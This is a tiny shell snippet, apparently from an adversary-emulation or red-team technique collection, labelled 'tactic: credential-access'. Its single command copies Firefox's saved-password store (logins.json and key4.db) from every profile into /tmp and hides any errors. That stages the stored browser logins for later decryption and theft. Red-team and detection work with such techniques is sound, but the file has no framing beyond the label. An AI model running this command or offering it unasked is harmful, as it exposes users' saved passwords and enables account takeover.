# tactic: credential-access
# copy the Firefox password store
cp $HOME/.mozilla/firefox/*/logins.json $HOME/.mozilla/firefox/*/key4.db /tmp/ 2>/dev/null; true
